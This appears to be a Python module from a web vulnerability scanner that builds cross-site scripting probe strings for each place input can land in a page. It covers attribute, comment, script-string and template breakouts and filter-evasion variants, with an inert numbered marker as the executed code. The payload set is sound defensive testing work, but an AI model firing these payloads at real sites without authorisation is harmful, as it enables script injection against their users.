"""Texts that would get out of the place in a page where input lands. Called by `reflected` and `stored`.

What they would run does nothing: `void` of a number that tells them apart.
"""

from __future__ import annotations

import secrets
from typing import Final, assert_never

from setpoint.scan.dast.checks.reflection.markup import Landing, Spot
from setpoint.scan.dast.checks.reflection.script import Inside

PAYLOADS_EACH: Final = 5
"""At most, for one landing."""


def fresh_code() -> str:
    """An expression that does nothing, and that no page holds unless we sent it."""
    return f"void({secrets.randbelow(9 * 10**8) + 10**8})"


def anywhere(code: str) -> str:
    """One text for where it lands unseen: gets out of an attribute, of the usual raw texts, and stands in text."""
    return f"x'\"></textarea></title><img src=x onerror={code}>[x](javascript:{code})"


def payloads(landing: Landing, code: str) -> tuple[str, ...]:
    """The likeliest first; the later ones for filters that take out some of it."""
    image = f"<img src=x onerror={code}>"
    match landing.spot:
        case Spot.TEXT | Spot.DOCUMENT:
            return (
                f"{image}[x](javascript:{code})",
                f"<script>{code}</script>",
                f"<svg/oNloAd={code}><ScRiPt>{code}</sCrIpT>",
                f"<scr<script>ipt>{code}</scr</script>ipt><im<img>g src=x onerror={code}>",
                f'<a href="jav&#x09;ascript:{code}">x</a>',
            )
        case Spot.RAW:
            return (f"</{landing.element}>{image}",)
        case Spot.COMMENT:
            return (f"-->{image}", f"--!>{image}")
        case Spot.ATTRIBUTE:
            return (
                f"x'\" onmouseover={code} x",
                f"x'\">{image}",
                f'" onmouseover={code} x="',
                f"' onmouseover={code} x='",
            )
        case Spot.ADDRESS:
            return (f"javascript:{code}", f"x'\" onmouseover={code} x", f"java\tscript:{code}")
        case Spot.HANDLER | Spot.SCRIPT:
            closing = (f"</script>{image}",) if landing.spot is Spot.SCRIPT else (f"x'\" onmouseover={code} x",)
            return (*_out_of(landing.inside, code), *closing)
        case _:
            assert_never(landing.spot)


def _out_of(inside: Inside, code: str) -> tuple[str, ...]:
    match inside:
        case Inside.CODE:
            return (code, f"0;{code};")
        case Inside.SINGLE | Inside.DOUBLE:
            return (f"{inside}-{code}-{inside}", f"\\{inside}-{code}//")
        case Inside.TEMPLATE:
            return (f"${{{code}}}", f"`-{code}-`")
        case Inside.PATTERN:
            return (f"/-{code}-/",)
        case Inside.LINE:
            return (f"\n{code}//",)
        case Inside.BLOCK:
            return (f"*/{code}/*",)
        case _:
            assert_never(inside)
